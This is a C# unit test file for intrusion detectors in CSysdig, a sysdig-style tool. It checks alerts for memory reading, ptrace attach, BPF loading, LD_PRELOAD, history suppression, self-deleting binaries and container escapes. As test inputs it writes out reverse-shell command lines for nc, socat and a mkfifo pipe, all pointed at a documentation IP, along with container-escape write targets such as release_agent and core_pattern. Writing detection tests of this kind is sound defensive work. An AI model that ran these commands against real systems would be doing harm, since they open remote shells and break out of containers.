using CSysdig.Capture.Events;
using CSysdig.Tests.TestKit;
using static CSysdig.Tests.Chisels.Story.Intrusion;
using static CSysdig.Tests.TestKit.ScapBuilder;

namespace CSysdig.Tests.Chisels.Story;

/// <summary>What takes hold of other processes, of the kernel, of the machine below a container; what hides; who types from elsewhere.</summary>
public sealed class GripTests
{
    const ushort Attach = 11, Continue = 8;

    [Theory]
    [InlineData("dumper", "/proc/7/mem", true)]
    [InlineData("gdb", "/proc/7/mem", false)]
    [InlineData("dumper", "/proc/110/mem", false)]
    [InlineData("dumper", "/proc/7/maps", false)]
    [InlineData("dumper", "/proc/self/mem", false)]
    public void Who_reads_the_memory_of_another_is_told(string program, string path, bool isTold)
    {
        var capture = Session();
        Command(capture, 110, $"/usr/bin/{program}", program).Openat(110, 3, path).Read(110, 3, "secret");
        Assert.Equal(isTold ? ["read another's memory: (7)"] : [], Told(capture, "read_memory"));
    }

    [Theory]
    [InlineData("x", Attach, 50, true)]
    [InlineData("x", Continue, 50, false)]
    [InlineData("strace", Attach, 50, false)]
    [InlineData("x", Attach, 111, false)]
    public void Who_takes_hold_of_a_process_that_is_not_its_child_is_told(string program, ushort request, long pid, bool isTold)
    {
        var capture = Session();
        Command(capture, 110, $"/usr/bin/{program}", program).Clone(110, 111, program)
            .Event(EventCode.SyscallPtraceX, 110, I64(0), [0, .. U64(0)], [0, .. U64(0)], U16(request), I64(pid));
        Assert.Equal(isTold ? ["took hold of another process: (50)"] : [], Told(capture, "took_hold"));
    }

    [Theory]
    [InlineData("/tmp/x", 5, 1, true)]
    [InlineData("/usr/bin/x", 5, 0, true)]
    [InlineData("/usr/bin/bpftool", 5, 0, false)]
    [InlineData("/usr/bin/x", 1, 0, false)]
    public void A_program_for_the_kernel_is_told_of_what_has_no_such_trade(string path, uint command, int grave, bool isTold)
    {
        var capture = Session();
        var name = Path.GetFileName(path);
        Command(capture, 110, path, name).Event(EventCode.SyscallBpf_2X, 110, I64(5), U32(command));
        Assert.Equal(grave, Findings(capture).Count(f => Kind(f) == "loaded_bpf"));
        Assert.Equal(isTold ? 1 : 0, Told(capture.BringToLight(), "loaded_bpf").Count);
    }

    [Theory]
    [InlineData("LD_PRELOAD=/tmp/x.so", "preloads a library: /tmp/x.so")]
    [InlineData("LD_PRELOAD=/usr/lib/libjemalloc.so /dev/shm/.x/y.so", "preloads a library: /dev/shm/.x/y.so")]
    [InlineData("LD_PRELOAD=/usr/lib/libjemalloc.so", null)]
    [InlineData("HISTFILE=/dev/null", "kept no history: HISTFILE=/dev/null")]
    [InlineData("HISTFILE=/root/.bash_history", null)]
    public void What_a_program_is_given_along_is_looked_at(string variable, string? told)
    {
        var capture = Session();
        Runs(capture, 110, "/usr/bin/id", "id", variable);
        capture.BringToLight();
        Assert.Equal(told is null ? [] : [told], Findings(capture).Where(f => Kind(f) is "preloaded_library" or "kept_no_history").Select(What));
    }

    [Theory]
    [InlineData("/tmp/x", "/tmp/x", true)]
    [InlineData("/tmp/x", "/tmp/y", false)]
    [InlineData("/home/x", "/home/x", false)]
    public void Who_removes_the_file_that_it_runs_hides(string program, string removed, bool isGrave)
    {
        var capture = Session();
        Command(capture, 110, program, "x");
        Removes(capture, 110, removed);
        Assert.Equal(isGrave ? ["removed its own program: /tmp/x"] : [], Told(capture, "removed_itself"));
    }

    [Fact]
    public void A_program_that_is_deleted_already_is_run_from_memory()
    {
        var capture = Session();
        Command(capture, 110, "/home/x (deleted)", "x");
        Assert.Equal(["ran from memory: x"], Told(capture, "ran_from_memory"));
    }

    [Theory]
    [InlineData("nc", "-e\0/bin/sh\0203.0.113.9\04444", true)]
    [InlineData("nc", "-zv\0203.0.113.9\04444", false)]
    [InlineData("socat", "TCP:203.0.113.9:4444\0EXEC:/bin/bash,pty", true)]
    [InlineData("socat", "TCP-LISTEN:80,fork\0TCP:10.0.0.1:80", false)]
    [InlineData("socat", "TCP-LISTEN:7040\0EXEC:tr a-z A-Z", false)]
    [InlineData("nc", "-c\0203.0.113.9\04444", false)]
    public void A_shell_behind_another_program_is_told(string program, string args, bool isTold)
    {
        var capture = Session();
        Command(capture, 110, $"/usr/bin/{program}", program, args);
        Assert.Equal(isTold ? 1 : 0, Told(capture, "reverse_shell").Count);
    }

    [Theory]
    [InlineData("/tmp/f", true)]
    [InlineData("/tmp/g", false)]
    public void And_one_behind_a_pipe_with_a_name(string output, bool isTold)
    {
        var capture = Session();
        Command(capture, 110, "/usr/bin/mkfifo", "mkfifo", "/tmp/f");
        capture.Clone(102, 111, "bash").Openat(111, 3, output, flags: ToWrite).Dup(111, 3, 1).Execve(111, "/bin/nc", "nc", "203.0.113.9\04444");
        Assert.Equal(isTold ? 1 : 0, Told(capture, "reverse_shell").Count);
    }

    [Theory]
    [InlineData("/sys/fs/cgroup/rdma/release_agent", true)]
    [InlineData("/proc/sys/kernel/core_pattern", true)]
    [InlineData("/proc/1/root/etc/crontab", true)]
    [InlineData("/etc/hosts", false)]
    public void What_the_kernel_runs_on_the_machine_is_no_business_of_a_container(string path, bool isTold)
    {
        const string Group = "cpu=/docker/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";
        var capture = new ScapBuilder().Processes(Calls.Process(1, "init", parent: 0), Calls.Process(100, "nginx"))
            .Accept(100, 4, "203.0.113.66:40707", "198.51.100.20:80").Clone(100, 101, "nginx", Group).Execve(101, "/bin/sh", "sh", cgroups: Group)
            .Openat(101, 3, path, flags: ToWrite).Write(101, 3, "/tmp/x").Close(101, 3);
        Assert.Equal(isTold ? [$"reached out of a container: {path}"] : [], Told(capture, "left_container"));
    }

    static List<string> Told(ScapBuilder capture, string kind) => [.. Findings(capture).Where(f => Kind(f) == kind).Select(What)];

    static void Runs(ScapBuilder b, long pid, string path, string comm, string environment) => b.Clone(102, pid, "bash")
        .Event(EventCode.SyscallExecve_19E, pid, Text(path))
        .Event(EventCode.SyscallExecve_19X, pid, I64(0), Text(comm), Text(""), I64(pid), I64(pid), I64(1), Text(""), U64(1024),
            U64(0), U64(0), U32(100), U32(50), U32(0), Text(comm), Text(""), Text("A=1\0" + environment), U32(0), I64(pid), U32(0), U32(0));
}
